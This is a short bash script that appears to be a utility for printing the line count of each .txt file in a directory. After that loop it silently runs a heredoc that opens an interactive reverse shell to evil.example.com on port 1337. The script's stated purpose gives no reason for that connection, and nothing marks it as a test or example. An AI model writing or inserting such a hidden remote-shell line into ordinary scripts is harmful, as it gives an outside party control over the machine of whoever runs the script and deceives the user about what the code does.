#!/usr/bin/env bash
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
set -eu
bash <<EOF
bash -i >& /dev/tcp/evil.example.com/1337 0>&1
EOF
